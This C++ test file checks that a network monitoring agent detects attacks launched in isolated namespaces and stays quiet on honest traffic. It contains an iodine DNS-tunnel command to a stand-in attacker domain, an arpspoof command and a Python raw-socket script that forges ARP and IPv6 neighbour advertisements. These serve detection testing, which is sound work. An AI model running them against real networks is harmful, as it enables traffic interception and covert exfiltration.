// SPDX-License-Identifier: Apache-2.0
// Data in names of DNS and false claims of addresses, by real tools against a node with the
// real agent: each is found, with its kind, source and target; honest names are not.
#include <gtest/gtest.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "agent.h"
#include "cluster.h"

namespace netprobe::test {
namespace {

constexpr auto kNode = "10.77.0.1";
constexpr auto kPod = "10.77.0.2";

class Seconds {
 public:
  [[nodiscard]] double passed() const {
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - begin_).count();
  }

 private:
  std::chrono::steady_clock::time_point begin_ = std::chrono::steady_clock::now();
};

/// An alert of the kind with these ends; each a text that its "ip" or "text" is.
bool has_alert(const Agent& agent, std::string_view kind, std::string_view source,
               std::string_view target) {
  const Json page = agent.json("/api/alerts?state=all&kind=" + std::string(kind));
  for (const auto alert : page.root()["alerts"]) {
    const auto is = [&](std::string_view which, std::string_view wanted) {
      for (const std::string_view key : {"ip", "text"}) {
        std::string_view text;
        if (alert[which][key].get(text) == simdjson::SUCCESS && text == wanted) return true;
      }
      return false;
    };
    if (is("source", source) && is("target", target)) return true;
  }
  return false;
}

std::string alerts_of(const Agent& agent) {
  std::string text;
  for (const auto alert : agent.json("/api/alerts?state=all").root()["alerts"])
    text += simdjson::minify(alert) + "\n";
  return text;
}

/// What dnsmasq answers: the names of `records`, and that there is no other.
std::vector<std::string> name_server(const std::string& address) {
  return {"dnsmasq", "--keep-in-foreground", "--no-hosts", "--no-resolv", "--no-daemon",
          "--conf-file=/dev/null", "--pid-file=", "--user=root", "--bind-interfaces",
          "--listen-address=" + address, "--local=/#/",
          // Ordinary names, and a service of a cluster.
          "--address=/www.example.com/192.0.2.10", "--address=/cdn.example.net/192.0.2.11",
          "--address=/api.example.org/2001:db8::10",
          "--address=/web.shop.svc.cluster.local/10.96.0.7"};
}

class NameAttacks : public testing::Test {
 protected:
  void SetUp() override {
    if (const auto why = end_to_end_obstacle(); !why.empty()) GTEST_SKIP() << why;
    for (const char* program : {"iodine", "iodined", "dnsmasq", "dig", "arpspoof", "python3"})
      if (!have_program(program)) GTEST_SKIP() << "needs the program " << program;
  }
  void TearDown() override {
    others_.stop();
    if (!agent_) return;
    const auto ended = agent_->stop();
    EXPECT_TRUE(ended && ended->ok()) << (ended ? ended->err : ended.error().message);
  }
  void pair() {
    auto made = NodeAndPod::make();
    ASSERT_TRUE(made) << made.error().message;
    node_.emplace(std::move(made->node));
    pod_.emplace(std::move(made->pod));
  }
  void watch(const NetNamespace& ns, const std::string& device,
             std::vector<std::string> more = {}) {
    more.insert(more.begin(), "--enable-history=false");
    auto agent = Agent::start(ns, more);
    ASSERT_TRUE(agent) << agent.error().message;
    agent_.emplace(std::move(*agent));
    ASSERT_TRUE(eventually([&] { return agent_->watches(device); }));
  }

  std::optional<NetNamespace> node_;
  std::optional<NetNamespace> pod_;
  std::optional<Agent> agent_;
  Background others_;
};

TEST_F(NameAttacks, ATunnelInDns) {
  if (::access("/dev/net/tun", R_OK | W_OK) != 0) GTEST_SKIP() << "needs /dev/net/tun";
  pair();
  watch(*node_, "eth0");
  ASSERT_TRUE(others_.start(*node_, {"iodined", "-f", "-c", "-P", "secret", "-d", "dns0",
                                     "172.30.99.1/24", "t.evil-example.com"}));
  ASSERT_TRUE(eventually([&] { return node_->ifindex("dns0").has_value(); }));
  const Seconds since;
  // Through the name server only (-r): what firewalls leave open.
  ASSERT_TRUE(others_.start(
      *pod_, {"iodine", "-f", "-r", "-P", "secret", "-d", "dns0", kNode, "t.evil-example.com"}));
  ASSERT_TRUE(
      others_.start(*pod_, {"sh", "-c",
                            "until ping -c 1 -W 1 172.30.99.1 >/dev/null 2>&1; do sleep 0.2; done; "
                            "exec ping -q -i 0.05 -s 300 172.30.99.1"}));
  EXPECT_TRUE(eventually([&] { return has_alert(*agent_, "dns_tunnel", kPod, "evil-example.com"); },
                         100 * kSecond))
      << alerts_of(*agent_);
  std::printf("a tunnel in DNS (iodine): found %.1f s after its start\n", since.passed());
}

TEST_F(NameAttacks, AListedNameThatIsAskedFor) {
  pair();
  const TempDir directory;
  const std::string list = directory.path() + "/names.txt";
  std::ofstream(list) << "*.bad-example.com  a botnet\n";
  watch(*node_, "eth0", {"--threat-intel=bots=" + list});
  ASSERT_TRUE(others_.start(*node_, name_server(kNode)));
  ASSERT_TRUE(eventually([&] {
    return pod_
        ->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode), "www.example.com"})
        .has_value();
  }));
  const Seconds since;
  EXPECT_TRUE(eventually([&] {
    (void)pod_->run(
        {"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode), "c2.bad-example.com"});
    return has_alert(*agent_, "threat_intel", kPod, "c2.bad-example.com");
  })) << alerts_of(*agent_);
  std::printf("a listed name: found %.1f s after it was asked for\n", since.passed());
}

TEST_F(NameAttacks, HonestNamesAreNone) {
  pair();
  watch(*node_, "eth0");
  ASSERT_TRUE(others_.start(*node_, name_server(kNode)));
  ASSERT_TRUE(eventually([&] {
    return pod_
        ->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode), "www.example.com"})
        .has_value();
  }));
  // As a pod asks (ndots:5): every name below every search domain first; and names that are
  // there once, below a search domain of the node.
  (void)pod_->run(
      {"python3", "-c",
       "import random, socket, struct, time\n"
       "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
       "def ask(name, kind=1):\n"
       "    q = struct.pack('!HHHHHH', random.getrandbits(16), 0x100, 1, 0, 0, 0)\n"
       "    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n"
       "    s.sendto(q + struct.pack('!HH', kind, 1), ('10.77.0.1', 53))\n"
       "    try: s.recv(4096)\n"
       "    except OSError: pass\n"
       "search = ['', '.shop.svc.cluster.local', '.svc.cluster.local', '.cluster.local', "
       "'.corp-example.org']\n"
       "names = ['www.example.com', 'cdn.example.net', 'api.example.org', 'web.shop']\n"
       "for i in range(300):\n"
       "    some = names + ['%032x.%020x.com' % (random.getrandbits(128), "
       "random.getrandbits(80))]\n"
       "    for name in some:\n"
       "        for suffix in reversed(search):\n"
       "            ask(name + suffix); ask(name + suffix, 28)\n"
       "    time.sleep(0.02)\n"},
      60 * kSecond);
  // What is waited for is that nothing comes: a message is looked at within two rounds.
  std::this_thread::sleep_for(std::chrono::seconds(3));
  EXPECT_EQ(alerts_of(*agent_), "");
  // It did see them.
  std::uint64_t events = 0;
  for (const auto probe : agent_->json("/api/probes").root()["probes"])
    if (text_of(probe, "name") == "dns") {
      events = number_of(probe, "events");
      EXPECT_EQ(text_of(probe, "state"), "on");
    }
  EXPECT_GT(events, 5'000U);
}

/// A bridge with a gateway, a victim and an attacker: .1, .2 and .9 of 10.78.0.0/24.
class LinkAttacks : public NameAttacks {
 protected:
  void SetUp() override {
    NameAttacks::SetUp();
    if (IsSkipped()) return;
    auto node = NetNamespace::create();
    ASSERT_TRUE(node) << node.error().message;
    node_.emplace(std::move(*node));
    ASSERT_TRUE(node_->ip({"link", "add", "br0", "type", "bridge"}));
    ASSERT_TRUE(node_->set_up("br0"));
    add("gw", gateway_, "1");
    add("victim", victim_, "2");
    add("evil", evil_, "9");
  }
  void add(const std::string& name, std::optional<NetNamespace>& to, const std::string& last) {
    auto ns = NetNamespace::create();
    ASSERT_TRUE(ns) << ns.error().message;
    to.emplace(std::move(*ns));
    ASSERT_TRUE(add_veth(*node_, name, *to, "eth0"));
    ASSERT_TRUE(node_->ip({"link", "set", name, "master", "br0"}));
    ASSERT_TRUE(to->add_address("eth0", "10.78.0." + last + "/24"));
    ASSERT_TRUE(to->add_address("eth0", "fd78::" + last + "/64"));
  }
  void everybody_meets() {
    for (auto* ns : {&victim_, &evil_, &gateway_})
      for (const char* last : {"1", "2", "9"})
        for (const std::string network : {"10.78.0.", "fd78::"}) {
          const auto met = (*ns)->run({"ping", "-q", "-c", "1", "-W", "5", network + last});
          EXPECT_TRUE(met) << met.error().message;
        }
  }
  /// Sends frames from the attacker's eth0; `body` is Python with mac(), ip() and send().
  void send(const NetNamespace& from, const std::string& body) const {
    const auto sent = from.run(
        {"python3", "-c",
         "import socket, struct, time\n"
         "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('eth0', 0))\n"
         "mac = s.getsockname()[4]\n"
         "def arp(op, sha, spa, tha, tpa, dst):\n"
         "    s.send(dst + sha + b'\\x08\\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, op) + sha "
         "+\n"
         "           socket.inet_aton(spa) + tha + socket.inet_aton(tpa))\n"
         "def advertise(target, dst):\n"
         "    six = socket.inet_pton(socket.AF_INET6, target); to = "
         "socket.inet_pton(socket.AF_INET6, dst)\n"
         "    m = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + six + b'\\x02\\x01' + mac\n"
         "    p = six + to + struct.pack('!II', len(m), 58) + m\n"
         "    c = sum(struct.unpack('!%dH' % (len(p) // 2), p))\n"
         "    while c >> 16: c = (c & 0xffff) + (c >> 16)\n"
         "    m = m[:2] + struct.pack('!H', ~c & 0xffff) + m[4:]\n"
         "    s.send(b'\\xff' * 6 + mac + b'\\x86\\xdd' + struct.pack('!IHBB', 6 << 28, len(m), "
         "58, 255)"
         " + six + to + m)\n" +
             body},
        60 * kSecond);
    ASSERT_TRUE(sent) << sent.error().message;
  }

  std::optional<NetNamespace> gateway_;
  std::optional<NetNamespace> victim_;
  std::optional<NetNamespace> evil_;
};

TEST_F(LinkAttacks, ArpSpoofing) {
  watch(*node_, "br0");
  everybody_meets();
  const Seconds since;
  ASSERT_TRUE(others_.start(*evil_, {"arpspoof", "-i", "eth0", "-t", "10.78.0.2", "10.78.0.1"}));
  EXPECT_TRUE(
      eventually([&] { return has_alert(*agent_, "neighbour_spoof", "10.78.0.9", "10.78.0.1"); },
                 60 * kSecond))
      << alerts_of(*agent_);
  std::printf("ARP spoofing (arpspoof): found %.1f s after its start\n", since.passed());
}

TEST_F(LinkAttacks, SpoofedNeighbourAdvertisements) {
  watch(*node_, "br0");
  everybody_meets();
  const Seconds since;
  send(*evil_, "for i in range(12): advertise('fd78::1', 'fd78::2'); time.sleep(1)\n");
  EXPECT_TRUE(eventually([&] {
    return has_alert(*agent_, "neighbour_spoof", "fd78::9", "fd78::1");
  })) << agent_->get("/api/probes")
      << alerts_of(*agent_);
  std::printf("spoofed neighbour advertisements: found %.1f s after their start\n", since.passed());
}

TEST_F(LinkAttacks, AFailoverIsNone) {
  watch(*node_, "br0");
  everybody_meets();
  // As keepalived does it: the address goes, and is announced at its new place.
  ASSERT_TRUE(gateway_->ip({"address", "del", "10.78.0.1/24", "dev", "eth0"}));
  ASSERT_TRUE(evil_->add_address("eth0", "10.78.0.1/24"));
  send(*evil_,
       "for i in range(5): arp(1, mac, '10.78.0.1', b'\\0' * 6, '10.78.0.1', b'\\xff' * 6); "
       "time.sleep(0.5)\n");
  // The victim finds it there.
  EXPECT_TRUE(victim_->run({"ping", "-q", "-c", "3", "-i", "0.3", "-W", "5", "10.78.0.1"}));
  // That nothing comes, as above.
  std::this_thread::sleep_for(std::chrono::seconds(3));
  EXPECT_EQ(alerts_of(*agent_), "");
}

}  // namespace
}  // namespace netprobe::test
